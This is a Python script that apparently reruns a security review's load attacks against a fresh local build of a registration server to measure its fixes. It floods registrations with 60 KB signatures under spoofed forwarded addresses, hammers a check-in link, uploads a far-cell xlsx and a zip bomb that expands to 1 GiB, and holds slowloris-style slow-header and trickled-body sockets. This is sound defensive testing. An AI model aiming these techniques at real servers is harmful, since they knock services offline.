#!/usr/bin/env python3
"""The second security review's load figures, measured again against a
release server on 127.0.0.1 (issue 25: N3, N4, N5, N8). Each attack runs
against a fresh server of its own; the figures go to stdout as a table.

    python3 scripts/attack-figures.py [--server PATH] [--only NAME ...]

--server runs another build (an older release, for the "before" column).
Attacks: registrations (5,000 registrations with 60 KB signatures from
rotating addresses behind a trusted proxy, then the most the fixed server
still takes), checkin (8 clients looping on one check-in link while a
probe opens other pages), xlsx (the 1.6 KB far-cell sheet and a 1 MiB zip
unpacking to 1 GiB: the server's peak RSS), connections (1,100 slow-header
sockets from one client, and 800 trickled bodies on /verify behind the
proxy: how long a probe waits).
"""

import argparse
import http.cookiejar
import io
import os
import re
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
SERVER = os.path.join(ROOT, "target", "release", "shoumen-server")
COMMUNITY = "lotus-gdn"
PASSWORD = "attack-figures-pw"


class Server:
    """A release server on a fresh SQLite file, behind "proxy" 127.0.0.1."""

    def __init__(self, binary, tmp, *extra):
        self.db = os.path.join(tmp, "server.db")
        env = {**os.environ, "PW": PASSWORD}
        subprocess.run([binary, "--db", self.db, "init", "--community", COMMUNITY, "--password-env", "PW"], check=True, capture_output=True, env=env)
        # An older build lacks newer flags: pass only those it knows.
        known = subprocess.run([binary, "--help"], capture_output=True, text=True).stdout
        extra = [a for i, a in enumerate(extra) if (a if a.startswith("--") else extra[i - 1]) in known]
        args = [binary, "--db", self.db, "--listen", "127.0.0.1:0", "--trusted-proxy", "127.0.0.1", *extra]
        self.proc = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, env={**env, "RUST_LOG": "error"})
        self.url = self.proc.stdout.readline().strip().removeprefix("listening on ")
        self.addr = urllib.parse.urlparse(self.url).netloc.split(":")
        self.addr = (self.addr[0], int(self.addr[1]))

    def alive(self):
        return self.proc.poll() is None

    def peak_rss_mib(self):
        with open(f"/proc/{self.proc.pid}/status") as f:
            for line in f:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) / 1024
        return float("nan")

    def stop(self):
        self.proc.kill()
        self.proc.wait()


class Browser:
    """Cookies, the CSRF token, and a client address through the proxy."""

    def __init__(self, url, client=None):
        self.url = url
        self.jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(self.jar), NoRedirect())
        self.client = client

    def request(self, method, path, data=None, headers=None, timeout=60):
        headers = dict(headers or {})
        headers.setdefault("Accept-Language", "en")
        if self.client:
            headers["X-Forwarded-For"] = self.client
        body = urllib.parse.urlencode(data).encode() if isinstance(data, (dict, list)) else data
        req = urllib.request.Request(self.url + path, data=body, headers=headers, method=method)
        try:
            with self.opener.open(req, timeout=timeout) as r:
                return r.status, r.read().decode("utf-8", "replace"), r.headers
        except urllib.error.HTTPError as e:
            return e.code, e.read().decode("utf-8", "replace"), e.headers

    def get(self, path, **kw):
        return self.request("GET", path, **kw)

    def post(self, path, data, **kw):
        return self.request("POST", path, data, **kw)

    def login(self):
        _, page, _ = self.get("/login")
        status, _, _ = self.post("/login", {"user": "admin", "password": PASSWORD, "csrf": csrf(page)})
        assert status == 303, f"login: {status}"
        _, page, _ = self.get("/")
        return csrf(page)


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kw):
        return None


def csrf(page):
    return re.search(r'name="?csrf"? value="([^"]+)"', page).group(1)


def hidden(page, name):
    return re.search(rf'name="?{name}"? value="([^"]*)"', page).group(1)


UNITS = [f"{b}-{f}0{u}" for b in range(1, 11) for f in range(1, 16) for u in (1, 2)]


def scene(server):
    """A resident in each of 300 units, a notice for Hubei and a pledge
    elsewhere."""
    admin = Browser(server.url)
    token = admin.login()
    roster = "name,unit,phone\n" + "".join(f"住户{i},{u},138{i:08d}\n" for i, u in enumerate(UNITS))
    status = upload(admin, token, "roster.csv", roster.encode(), mode="import")
    assert status == 200, f"import: {status}"
    for name, kind, days in [("Pledge", "pledge", 7), ("Hubei notice", "notice", 14)]:
        admin.post("/returnees/documents", {"name": name, "kind": kind, "days": days, "body_zh": "{days} 天", "body_en": "{days} days", "csrf": token})
    admin.post("/returnees/rules", {"prefix": "", "document": "Pledge", "csrf": token})
    admin.post("/returnees/rules", {"prefix": "42", "document": "Hubei notice", "csrf": token})
    return admin, token


def register(server, client, phone, signature, unit="1-101"):
    """One registration through the phone's three steps; the final status."""
    b = Browser(server.url, client)
    _, page, _ = b.get(f"/r/{COMMUNITY}")
    form = {"token": hidden(page, "token"), "name": "王芳", "phone": phone, "unit": unit, "origin": "420106",
            "arrival": time.strftime("%Y-%m-%d"), "travel": "train", "temperature": "36.5", "symptoms": "no", "contact": "no"}
    status, page, _ = b.post(f"/r/{COMMUNITY}", form)
    if status != 200:
        return status
    form.update({"document": hidden(page, "document"), "version": hidden(page, "version"), "signature": signature, "signed_name": "王芳", "confirm": "yes"})
    return b.post(f"/r/{COMMUNITY}/sign", form)[0]


def db_mib(server):
    size = 0
    for suffix in ["", "-wal"]:
        p = server.db + suffix
        if os.path.exists(p):
            size += os.path.getsize(p)
    return size / 2**20


def flood(server, n, signature, phones):
    """n registrations from n addresses, in 8 threads; counts by status."""
    counts = {}
    lock = threading.Lock()
    todo = iter(range(n))

    def worker():
        while True:
            with lock:
                i = next(todo, None)
            if i is None:
                return
            client = f"10.{i // 65536 % 256}.{i // 256 % 256}.{i % 256}"
            phone = f"139{i:08d}" if phones else "13900000000"
            status = register(server, client, phone, signature, UNITS[i % len(UNITS)])
            with lock:
                counts[status] = counts.get(status, 0) + 1

    threads = [threading.Thread(target=worker) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return counts


def attack_registrations(binary, n):
    # A 60 KB "signature": strokes of whole pixels, as the review sent.
    big = "M10 10" + " L300 150 L10 10" * 3_800
    # The largest a finger's signature may now be (8 KiB).
    largest = "M10 10" + " L300 150 L10 10" * 500
    rows = []
    for label, signature, phones in [("60 KB signatures, rotating addresses and phones", big, True),
                                     ("8 KB signatures, rotating addresses and phones", largest, True)]:
        with tempfile.TemporaryDirectory() as tmp:
            server = Server(binary, tmp, "--rate-per-minute", "100000")
            scene(server)
            before = db_mib(server)
            started = time.time()
            counts = flood(server, n, signature, phones)
            took = time.time() - started
            # The quarantine page and a pending notice: what the committee sees.
            admin = Browser(server.url)
            admin.login()
            _, quarantine, _ = admin.get("/quarantine")
            rows.append((label, counts, before, db_mib(server), took, len(quarantine)))
            server.stop()
    for label, counts, before, after, took, qpage in rows:
        stored = counts.get(303, 0)
        print(f"registrations | {label}: {n} sent in {took:.1f} s, {stored} stored, refused {dict((k, v) for k, v in counts.items() if k != 303)}; "
              f"database {before:.1f} -> {after:.1f} MiB; /quarantine {qpage / 1024:.1f} KiB")


def attack_checkin(binary, seconds):
    with tempfile.TemporaryDirectory() as tmp:
        server = Server(binary, tmp, "--rate-per-minute", "20")
        admin, token = scene(server)
        day = time.strftime("%Y-%m-%d")
        admin.post("/quarantine", {"unit": "1-101", "from": day, "until": time.strftime("%Y-%m-%d", time.localtime(time.time() + 7 * 86400)), "note": "", "csrf": token})
        # Thousands of people watched, as a flood of registrations leaves them.
        flood(server, 5000, "M10 10" + " L300 150 L10 10" * 500, True)
        _, page, _ = admin.get("/checkins")
        link = re.search(r"(/c/lotus-gdn/[^<\"]+)", page).group(1)
        stop = time.time() + seconds
        hits = {"n": 0, "limited": 0}

        def hammer(i):
            b = Browser(server.url, f"198.51.100.{i}")
            while time.time() < stop:
                status = b.get(link)[0]
                hits["n"] += 1
                hits["limited"] += status == 429

        threads = [threading.Thread(target=hammer, args=(i,)) for i in range(8)]
        for t in threads:
            t.start()
        lat = []
        while time.time() < stop:
            t0 = time.time()
            admin.get("/residents")
            lat.append((time.time() - t0) * 1000)
            time.sleep(0.05)
        for t in threads:
            t.join()
        server.stop()
        lat.sort()
        print(f"checkin | 8 clients on one link for {seconds} s, 5,000 registrations watched: {hits['n']} requests ({hits['limited']} answered 429); "
              f"/residents p50 {statistics.median(lat):.0f} ms, p99 {lat[int(len(lat) * 0.99) - 1]:.0f} ms, max {lat[-1]:.0f} ms over {len(lat)} probes")


def workbook(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, body in parts:
            z.writestr(name, body)
    return out.getvalue()


BASE_PARTS = [
    ("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'),
    ("_rels/.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
    ("xl/workbook.xml", '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    ("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
]


def upload(b, token, name, data, mode="check"):
    boundary = "----shoumen" + os.urandom(8).hex()
    parts = []
    for key, value in [("csrf", token), ("mode", mode)]:
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode())
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\nContent-Type: application/octet-stream\r\n\r\n'.encode() + data + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    try:
        return b.request("POST", "/residents/import", b"".join(parts), {"Content-Type": f"multipart/form-data; boundary={boundary}"}, timeout=120)[0]
    except Exception as e:  # the server died
        return f"no answer ({type(e).__name__})"


def attack_xlsx(binary):
    far = workbook(BASE_PARTS + [("xl/worksheets/sheet1.xml", '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>')])
    huge = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>' + b"a" * (1 << 30) + b"</t></si></sst>"
    bomb = workbook(BASE_PARTS + [("xl/sharedStrings.xml", huge), ("xl/worksheets/sheet1.xml", '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>')])
    del huge
    for label, data in [(f"far cells A1 and XFD1048576 ({len(far)} bytes)", far), (f"1 GiB string in a {len(bomb) / 2**20:.2f} MiB zip", bomb)]:
        with tempfile.TemporaryDirectory() as tmp:
            server = Server(binary, tmp)
            b = Browser(server.url)
            token = b.login()
            base = server.peak_rss_mib()
            t0 = time.time()
            status = upload(b, token, "roster.xlsx", data)
            took = time.time() - t0
            time.sleep(0.5)
            alive = server.alive()
            peak = server.peak_rss_mib() if alive else float("nan")
            print(f"xlsx | {label}: answer {status} in {took:.1f} s; server {'up' if alive else 'DEAD'}; peak RSS {base:.0f} -> {peak:.0f} MiB")
            if alive:
                server.stop()


def source_socket(source, addr):
    s = socket.socket()
    s.bind((source, 0))
    s.settimeout(1)
    s.connect(addr)
    return s


def probe(server, client=None, timeout=60):
    t0 = time.time()
    try:
        status = Browser(server.url, client).get("/login", timeout=timeout)[0]
    except Exception as e:
        status = type(e).__name__
    return status, time.time() - t0


class Hogs:
    """`n` connections held open by one client and opened again as soon as
    the server closes one, for as long as the attack lasts."""

    def __init__(self, n, opener):
        self.n, self.opener, self.stop = n, opener, False
        self.thread = threading.Thread(target=self.run)
        self.connected = 0
        self.thread.start()

    def run(self):
        open_ = []
        while not self.stop:
            while len(open_) < self.n and not self.stop:
                try:
                    open_.append(self.opener())
                    self.connected += 1
                except OSError:
                    break
            # A byte now and then; a closed socket is replaced.
            alive = []
            for s in open_:
                try:
                    s.setblocking(False)
                    if s.recv(1, socket.MSG_PEEK) == b"":
                        s.close()
                        continue
                except BlockingIOError:
                    pass
                except OSError:
                    s.close()
                    continue
                alive.append(s)
            open_ = alive
            time.sleep(0.2)
        for s in open_:
            s.close()

    def end(self):
        self.stop = True
        self.thread.join()


def probes(server, client, seconds):
    waits = []
    stop = time.time() + seconds
    while time.time() < stop:
        waits.append(probe(server, client))
        time.sleep(0.5)
    ms = sorted(w * 1000 for _, w in waits)
    failed = sum(1 for s, _ in waits if s != 200)
    return f"{len(ms)} probes, p50 {statistics.median(ms):.0f} ms, max {ms[-1]:.0f} ms, {failed} not answered"


def attack_connections(binary, seconds):
    def slow_header(server):
        s = source_socket("127.0.0.2", server.addr)
        s.sendall(b"GET /login HTTP/1.1\r\nHost: gate\r\n")
        return s

    def trickled_body(server):
        s = socket.create_connection(server.addr, timeout=1)
        s.sendall(b"POST /verify HTTP/1.1\r\nHost: gate\r\nX-Forwarded-For: 198.51.100.66\r\n"
                  b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 200000\r\n\r\nreceipt=")
        return s

    for label, n, opener, client in [("1,100 slow-header sockets from one address", 1100, slow_header, None),
                                     ("800 trickled bodies on /verify from one client behind the proxy", 800, trickled_body, "203.0.113.5")]:
        with tempfile.TemporaryDirectory() as tmp:
            server = Server(binary, tmp)
            hogs = Hogs(n, lambda: opener(server))
            time.sleep(1)
            result = probes(server, client, seconds)
            hogs.end()
            print(f"connections | {label} for {seconds} s ({hogs.connected} opened): another client's {result}")
            server.stop()


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--server", default=SERVER)
    ap.add_argument("--only", nargs="*", default=["registrations", "checkin", "xlsx", "connections"])
    ap.add_argument("--registrations", type=int, default=5000)
    ap.add_argument("--seconds", type=int, default=20)
    args = ap.parse_args()
    print(f"# {args.server}")
    if "registrations" in args.only:
        attack_registrations(args.server, args.registrations)
    if "checkin" in args.only:
        attack_checkin(args.server, args.seconds)
    if "xlsx" in args.only:
        attack_xlsx(args.server)
    if "connections" in args.only:
        attack_connections(args.server, args.seconds)


if __name__ == "__main__":
    sys.exit(main())
